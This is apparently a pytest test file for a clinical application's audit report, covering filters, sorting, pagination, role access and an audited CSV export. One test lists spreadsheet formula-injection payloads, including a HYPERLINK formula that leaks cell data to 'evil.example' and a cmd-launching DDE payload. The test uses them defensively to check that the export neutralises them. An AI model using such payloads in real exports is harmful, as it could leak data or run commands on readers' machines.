"""The audit report: filters, sorting, pages, who may see it, and its audited CSV export."""

import csv
import datetime as dt
import io
from unittest import mock

import pytest
from django.urls import reverse

from openrecovery.accounts.models import User
from openrecovery.accounts.roles import Role
from openrecovery.audit.choices import Action
from openrecovery.audit.models import AuditEvent
from openrecovery.audit.services import audit_record
from openrecovery.reports import views
from openrecovery.reports.forms import ERROR_INVERTED_RANGE
from tests.support.audit import audit_mark, events_since
from tests.support.factories import make_patient, make_staff, verified_client

UTC = dt.UTC


def at(day: int, hour: int = 15) -> dt.datetime:
    return dt.datetime(2020, 3, day, hour, tzinfo=UTC)


@pytest.fixture
def sample(db):
    """Three events by two users about two patients on three days in March 2020."""
    alice = make_staff(Role.COUNSELOR, "alice")
    bob = make_staff(Role.NURSE, "bob")
    rows = [
        (alice, 910001, Action.VIEW, at(1)),
        (bob, 910002, Action.PRINT, at(5)),
        (alice, 910002, Action.EXPORT, at(10)),
    ]
    events = []
    for actor, patient_id, action, when in rows:
        with mock.patch("openrecovery.audit.services.timezone.now", return_value=when):
            events.append(
                audit_record(action=action, actor=actor, patient_id=patient_id, object_type="t")
            )
    return events


def report_ids(client, **params) -> list[int]:
    response = client.get(reverse("reports:audit_report"), params)
    assert response.status_code == 200, response.context["form"].errors
    return [e.id for e in response.context["page"]]


@pytest.fixture
def auditor(director):
    return verified_client(director)


def test_filter_by_user(auditor, sample):
    assert report_ids(auditor, username="alice") == [sample[2].id, sample[0].id]
    assert report_ids(auditor, username="bob") == [sample[1].id]
    assert report_ids(auditor, username="carol") == []


def test_filter_by_patient(auditor, sample):
    assert report_ids(auditor, patient_id=910002) == [sample[2].id, sample[1].id]


def test_filter_by_action(auditor, sample):
    assert report_ids(auditor, action="print", patient_id=910002) == [sample[1].id]
    assert report_ids(auditor, action="export", username="alice") == [sample[2].id]


def test_filter_by_time_with_inclusive_end_date(auditor, sample):
    assert report_ids(auditor, since="2020-03-04", until="2020-03-05") == [sample[1].id]
    assert report_ids(auditor, since="2020-03-02", until="2020-03-31") == [
        sample[2].id,
        sample[1].id,
    ]
    assert report_ids(auditor, until="2020-03-01") == [sample[0].id]
    assert sample[0].id not in report_ids(auditor, since="2020-03-02")


def test_filters_combine(auditor, sample):
    assert report_ids(auditor, username="alice", patient_id=910002, since="2020-03-09") == [
        sample[2].id
    ]


@pytest.mark.parametrize(
    ("sort", "order"),
    [
        ("id", [0, 1, 2]),
        ("-id", [2, 1, 0]),
        ("time", [0, 1, 2]),
        ("-time", [2, 1, 0]),
        ("user", [2, 0, 1]),  # alice (newest first among equals), then bob
        ("-patient", [2, 1, 0]),
        ("action", [2, 1, 0]),  # export, print, view
    ],
)
def test_sorting(auditor, sample, sort, order):
    ids = report_ids(auditor, since="2020-03-01", until="2020-03-31", sort=sort)
    assert ids == [sample[i].id for i in order]


def test_sort_links_toggle_direction(auditor, sample):
    page = auditor.get(reverse("reports:audit_report"), {"username": "alice", "sort": "time"})
    assert "sort=-time" in page.content.decode()


def test_pagination(auditor, sample, monkeypatch):
    monkeypatch.setattr(views, "PAGE_SIZE", 2)
    params = {"since": "2020-03-01", "until": "2020-03-31", "sort": "id"}
    first = auditor.get(reverse("reports:audit_report"), params)
    second = auditor.get(reverse("reports:audit_report"), params | {"page": 2})
    assert [e.id for e in first.context["page"]] == [sample[0].id, sample[1].id]
    assert [e.id for e in second.context["page"]] == [sample[2].id]
    assert "Page 1 of 2" in first.content.decode()
    assert "page=2" in first.content.decode()


@pytest.mark.parametrize(
    ("role", "status"),
    [
        (Role.CLINICAL_DIRECTOR, 200),
        (Role.ADMINISTRATOR, 200),
        (Role.COUNSELOR, 403),
        (Role.NURSE, 403),
        (Role.PHYSICIAN, 403),
        (Role.ADMISSIONS_COORDINATOR, 403),
        (Role.CONTENT_EDITOR, 403),
        (Role.MEDICAL_REVIEWER, 403),
    ],
)
def test_only_report_holders_see_the_report_and_export(db, role, status):
    client = verified_client(make_staff(role))
    mark = audit_mark()
    assert client.get(reverse("reports:audit_report")).status_code == status
    assert client.get(reverse("reports:audit_export_csv")).status_code == status
    if status == 403:
        assert not events_since(mark, object_type="audit_report")


def test_anonymous_is_sent_to_login(client):
    response = client.get(reverse("reports:audit_report"))
    assert response.status_code == 302
    assert response.url.startswith(reverse("accounts:login"))


def test_csv_export_content_and_its_own_audit(director, sample):
    client = verified_client(director)
    mark = audit_mark()
    response = client.get(reverse("reports:audit_export_csv"), {"username": "alice", "sort": "id"})
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv"
    assert "attachment" in response["Content-Disposition"]
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert tuple(rows[0]) == views.CSV_COLUMNS
    assert [int(r[0]) for r in rows[1:]] == [sample[0].id, sample[2].id]
    first = dict(zip(rows[0], rows[1], strict=True))
    assert first["actor_username"] == "alice"
    assert first["patient_id"] == "910001"
    assert first["action"] == "view"
    assert first["occurred_at"].startswith("2020-03-01 15:00:00")
    export = events_since(mark, action=Action.EXPORT)
    assert len(export) == 1
    assert export[0].actor_id == director.pk
    assert export[0].detail["filter"]["username"] == "alice"


def test_export_is_audited_before_rows_stream(director, sample):
    # The export event is written even if the download is never read to the end.
    mark = audit_mark()
    verified_client(director).get(reverse("reports:audit_export_csv"))
    assert AuditEvent.objects.filter(id__gt=mark, action=Action.EXPORT).count() == 1


@pytest.mark.parametrize(
    ("params", "field"),
    [
        ({"patient_id": "abc"}, "patient_id"),
        ({"patient_id": "0"}, "patient_id"),
        ({"patient_id": str(2**63)}, "patient_id"),
        ({"since": "yesterday"}, "since"),
        ({"until": "2020-13-01"}, "until"),
        ({"action": "delete_everything"}, "action"),
        ({"sort": "mac"}, "sort"),
        ({"username": "x" * 151}, "username"),
    ],
)
def test_invalid_filters_give_400_with_field_errors(auditor, params, field):
    response = auditor.get(reverse("reports:audit_report"), params)
    assert response.status_code == 400
    assert list(response.context["form"].errors) == [field]
    assert response.context["page"] is None
    assert auditor.get(reverse("reports:audit_export_csv"), params).status_code == 400


FORMULA_USERNAMES = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd",
    "-1+cmd",
    "\t=1+1",
]


def test_formula_usernames_from_failed_sign_ins_export_as_text(client, director):
    for username in FORMULA_USERNAMES:
        client.post(reverse("accounts:login"), {"username": username, "password": "wrong pw"})
    response = verified_client(director).get(
        reverse("reports:audit_export_csv"), {"action": "login_failed"}
    )
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    names = {dict(zip(rows[0], row, strict=True))["actor_username"] for row in rows[1:]}
    # The sign-in form strips surrounding whitespace, so "\t=1+1" arrives as "=1+1".
    assert names >= {"'" + name.strip() for name in FORMULA_USERNAMES}
    assert not any(name.startswith(("=", "+", "-", "@", "\t")) for name in names)


@pytest.mark.parametrize(
    "params",
    [{"until": "9999-12-31"}, {"since": "0001-01-01"}, {"until": "3000-01-01"}],
)
def test_dates_beyond_the_range_are_a_field_error_not_a_server_error(director, params):
    client = verified_client(director)
    response = client.get(reverse("reports:audit_report"), params)
    assert response.status_code == 400
    field = next(iter(params))
    assert response.context["form"].errors[field]
    assert client.get(reverse("reports:audit_export_csv"), params).status_code == 400


def test_the_last_day_of_the_range_is_accepted(director):
    response = verified_client(director).get(
        reverse("reports:audit_report"), {"since": "1900-01-01", "until": "2999-12-31"}
    )
    assert response.status_code == 200


# --- what the report tells its reader (issue 10, point 10) ---------------------------


def test_times_are_shown_in_the_programs_zone_and_the_header_says_so(auditor, sample, settings):
    response = auditor.get(reverse("reports:audit_report"), {"username": "bob"})
    body = response.content.decode()
    assert f"Time ({settings.TIME_ZONE})" in body
    assert "Time (UTC)" not in body
    local = sample[1].occurred_at.astimezone(dt.timezone(dt.timedelta(hours=-5)))  # EST in March
    assert local.strftime("%Y-%m-%d %H:%M:%S") in body


def test_patients_are_shown_by_mrn_and_name(auditor, director):
    patient = make_patient(actor=director, given="Auditee", family="Shownbyname")
    audit_record(action=Action.VIEW, actor=director, patient_id=patient.pk, object_type="t")
    body = auditor.get(reverse("reports:audit_report"), {"patient_id": patient.pk}).content
    assert f"{patient.mrn} · Auditee Shownbyname" in body.decode()


def test_the_user_filter_takes_part_of_a_name_or_username_and_suggests(auditor, sample):
    alice = User.objects.get(username="alice")
    User.objects.filter(pk=alice.pk).update(first_name="Alice", last_name="Okonkwo")
    assert report_ids(auditor, username="okonk") == [sample[2].id, sample[0].id]
    assert report_ids(auditor, username="Alice Okonkwo") == [sample[2].id, sample[0].id]
    assert report_ids(auditor, username="ali") == [sample[2].id, sample[0].id]
    body = auditor.get(reverse("reports:audit_report")).content.decode()
    assert 'list="audit-user-suggestions"' in body
    assert '<option value="alice">Alice Okonkwo</option>' in body


def test_an_empty_result_says_so(auditor, sample):
    response = auditor.get(reverse("reports:audit_report"), {"username": "nobody-at-all"})
    assert response.status_code == 200
    assert "No events match these filters." in response.content.decode()


def test_a_start_after_the_end_is_refused(auditor, sample):
    params = {"since": "2020-03-10", "until": "2020-03-01"}
    response = auditor.get(reverse("reports:audit_report"), params)
    assert response.status_code == 400
    assert response.context["form"].errors["until"] == [ERROR_INVERTED_RANGE]
    assert auditor.get(reverse("reports:audit_export_csv"), params).status_code == 400


def test_a_patient_filter_also_finds_the_lists_that_showed_them(auditor, director, counselor):
    """ "Did this patient appear in someone's search results?" has an answer."""
    patient = make_patient(actor=director, family="Listedinsearch", team=[counselor])
    other = make_patient(actor=director, family="Notthisone", team=[counselor])
    client = verified_client(counselor)
    client.post(reverse("chart:search"), {"q": "Listedinsearch"}, follow=True)
    client.get(reverse("chart:dashboard"))
    events = report_events(auditor, patient_id=patient.pk)
    kinds = {(e.action, e.object_type) for e in events}
    assert {(Action.SEARCH, "patient"), (Action.LIST, "dashboard")} <= kinds
    searches = [e for e in events if e.action == Action.SEARCH]
    assert all(patient.pk in e.detail["patients"] for e in searches)
    assert other.pk not in searches[0].detail["patients"]
    assert not [e for e in report_events(auditor, patient_id=other.pk) if e.action == Action.SEARCH]


def report_events(client, **params) -> list[AuditEvent]:
    response = client.get(reverse("reports:audit_report"), params)
    assert response.status_code == 200
    return list(response.context["page"])
